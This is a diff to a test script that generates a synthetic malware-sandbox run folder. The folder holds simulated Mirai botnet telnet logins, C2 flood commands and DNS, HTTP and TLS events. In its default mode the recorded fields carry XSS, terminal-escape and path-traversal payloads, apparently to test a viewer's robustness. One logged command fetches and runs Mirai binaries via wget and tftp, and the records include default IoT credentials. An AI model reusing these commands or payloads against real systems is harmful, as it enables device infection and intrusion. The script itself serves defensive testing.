@@ -1,11 +1,11 @@
 #!/bin/bash
 # SPDX-License-Identifier: GPL-2.0-only
 # A run's folder with something of everything, told by a guest that would like to own the reader.
-# usage: hostile_run.sh FOLDER
+# usage: hostile_run.sh FOLDER [plain]       plain: the same from a guest that behaves, for pictures
 
 set -e
 mkdir -p "$1"
-exec python3 - "$1" <<'END'
+exec python3 - "$@" <<'END'
 import json, os, random, struct, sys
 
 folder = sys.argv[1]
@@ -35,16 +35,18 @@ evil = ['<script>owned=1</script>.example', '"><img src=x onerror=owned=1>.examp
     'abc\u202egnp.exe.example', '\u2066x\u2069\u200b\ufeff.example', 'a\x1b[2J\x00b.example', '<!--<script>.example',
     '{{constructor.constructor("owned=1")()}}.example', 'javascript:owned=1//.example', 'Z' + '\u0301' * 400 + '.example',
     '\u2028owned=1\u2029.example', '&lt;b&gt;&#x3c;.example', '\U000e0041\U0010ffff.example']
+if len(sys.argv) > 2:
+    evil = ['cnc.example', 'bins.example', 'update.example', 'tracker.example'] + ['node%d.example' % i for i in range(9)]
 for i, name in enumerate(evil * 2 + ['host%d.example' % i for i in range(60)]):
     event(1 + i * .05, 'dns', '8.8.8.8', 53, 'UDP', 'dns', {'version': 2, 'type': 'answer', 'rrname': name, 'rrtype': 'A', 'rcode': 'NOERROR',
         'answers': [{'rrname': name, 'rrtype': 'A', 'ttl': 60, 'rdata': '172.1.0.%d' % (i % 200)}]})
     flow(1, 2, 40000 + i, '8.8.8.8', 53, 'UDP', 'dns', 1, 1)
-long = 'A' * (200 << 10)
+long = 'bins/mirai.mips' if len(sys.argv) > 2 else 'A' * (200 << 10)
 event(5, 'http', '172.1.0.0', 80, 'TCP', 'http', {'hostname': evil[0], 'url': '/' + long, 'http_user_agent': evil[1],
     'http_method': 'GET', 'protocol': 'HTTP/1.1', 'status': 200, 'length': 57, 'request_body_bytes': 0})
 event(5.1, 'http', '172.1.0.1', 443, 'TCP', 'https', {'hostname': 'up.example', 'url': '/gate.php', 'http_user_agent': 'x',
     'http_method': 'POST', 'status': 200, 'length': 2, 'request_body_bytes': 4096, 'request_sha256': 'ab' * 32})
-event(5.2, 'fileinfo', '172.1.0.1', 443, 'TCP', 'https', {'app_proto': 'http', 'filename': '../../<b>' + evil[3], 'size': 4096,
+event(5.2, 'fileinfo', '172.1.0.1', 443, 'TCP', 'https', {'app_proto': 'http', 'filename': 'passwd' if len(sys.argv) > 2 else '../../<b>' + evil[3], 'size': 4096,
     'sha256': 'ab' * 32, 'stored': True})
 event(5.3, 'tls', '172.1.0.1', 443, 'TCP', 'https', {'sni': evil[1], 'version': 'TLS 1.3', 'ja3': {'hash': 'cd' * 16},
     'ja4': 't13d1516h2_8daaf6152771_02713d6af862'})
@@ -54,7 +56,7 @@ event(8, 'cnc', '172.1.0.2', 23, 'TCP', 'cnc', {'kind': 'register', 'family': 'm
 targets = [('udp', '1.2.3.4', 10), ('syn', '1.2.3.5', 14)]
 for vector, target, at in targets:
     event(at, 'cnc', '172.1.0.2', 23, 'TCP', 'cnc', {'kind': 'command', 'family': 'mirai', 'raw': '000e0000000500010102030420' + '00',
-        'command': {'vector': 0, 'vector_name': vector, 'duration': 3, 'targets': [target + '/32'], 'options': {'len': '512',
+        'command': {'vector': 0, 'vector_name': vector, 'duration': 3, 'targets': [target + '/32'], 'options': {'len': '512'} if len(sys.argv) > 2 else {'len': '512',
         'domain': evil[2]}}})
 event(30, 'cnc', '172.1.0.2', 23, 'TCP', 'cnc', {'kind': 'closed', 'keepalives': 9})
 flow(8, 30, 50001, '172.1.0.2', 23, 'TCP', 'cnc', 30, 25)
@@ -75,25 +77,25 @@ with open(folder + '/capture.pcap', 'wb') as out:
 for i in range(60):
     flow(10.2, 13.2, 1024 + i, '1.2.3.4', 7 + i, 'UDP', 'sink', 50, 0, 540)
     flow(14.2, 17.2, 1024 + i, '1.2.3.5', 80, 'TCP', 'sink', 50, 0, 40, '%d.1.1.1' % (i + 1))
-users = [('root', 'vizxv'), ('admin', 'admin'), ('root', evil[0]), (evil[3], '1234'), ('\x1b[31mroot', 'x')]
+users = [('root', 'vizxv'), ('admin', 'admin'), ('root', evil[0]), (evil[3], '1234'), ('support', 'support') if len(sys.argv) > 2 else ('\x1b[31mroot', 'x')]
 for i in range(40):
     host = '94.166.%d.54' % i
     for j, (user, password) in enumerate(users[:1 + i % 5]):
         event(18 + i * .2 + j * .02, 'telnet', host, 23, 'TCP', 'telnet', {'kind': 'login', 'session': i, 'username': user,
             'password': password, 'success': j == i % 5, 'attempt': j + 1})
     for j, command in enumerate(['enable', 'system', 'shell', 'sh', '/bin/busybox MIRAI',
-            'cd /tmp; wget http://172.1.0.7/bins/mirai.mips -O x; tftp -g -r mirai.arm 172.1.0.8', '<script>owned=1</script>\x1b]0;x\x07\u202e']):
+            'cd /tmp; wget http://172.1.0.7/bins/mirai.mips -O x; tftp -g -r mirai.arm 172.1.0.8', '/bin/busybox ECCHI' if len(sys.argv) > 2 else '<script>owned=1</script>\x1b]0;x\x07\u202e']):
         event(18.1 + i * .2 + j * .01, 'telnet', host, 23, 'TCP', 'telnet', {'kind': 'command', 'session': i, 'command': command})
     flow(18 + i * .2, 19 + i * .2, 52000 + i, host, 23, 'TCP', 'telnet', 20, 20)
     event(19 + i * .2, 'report', '203.0.113.48', 48101, 'TCP', 'report', {'address': host, 'port': 23, 'username': users[i % 5][0],
         'password': users[i % 5][1], 'raw': '00'})
-for port, text in ((6667, b'NICK <script>owned=1</script>\r\n'), (4444, bytes(range(256)))):
+for port, text in ((6667, b'NICK guest\r\nUSER guest 8 * :guest\r\n'  if len(sys.argv) > 2 else b'NICK <script>owned=1</script>\r\n'), (4444, bytes(range(256)))):
     event(28, 'sink', '198.51.100.7', port, 'TCP', 'sink', {'kind': 'summary', 'bytes': len(text), 'packets': 1,
         'first_bytes': text.hex(), 'first_text': text.decode('latin1')})
     flow(28, 29, 53000 + port, '198.51.100.7', port, 'TCP', 'sink', 3, 2)
 events.write('broken <script>owned=1</script>\n')
 events.write('{"event_type":"dns","dns":{"rrname":"' + 'B' * (1 << 20) + '"}}\n')
-json.dump({'start': stamp(0), 'end': stamp(31), 'seconds': 31.0, 'bridge': 'sink0', 'tap': 'sink0-t0', 'command': ['qemu', evil[0]],
-    'servers': [], 'servers_ended_early': [evil[0]], 'capture': {'dropped': 3}, 'flows': {}, 'exit_status': 0}, open(folder + '/run.json', 'w'))
+json.dump({'start': stamp(0), 'end': stamp(31), 'seconds': 31.0, 'bridge': 'sink0', 'tap': 'sink0-t0', 'command': ['qemu-system-mips', '-netdev', 'tap,ifname=sink0-t0'] if len(sys.argv) > 2 else ['qemu', evil[0]],
+    'servers': [], 'servers_ended_early': [] if len(sys.argv) > 2 else [evil[0]], 'capture': {'dropped': 3}, 'flows': {}, 'exit_status': 0}, open(folder + '/run.json', 'w'))
 json.dump({'drop_no_rule': 5, 'drop_ip_header': 1}, open(folder + '/stats.json', 'w'))
 END
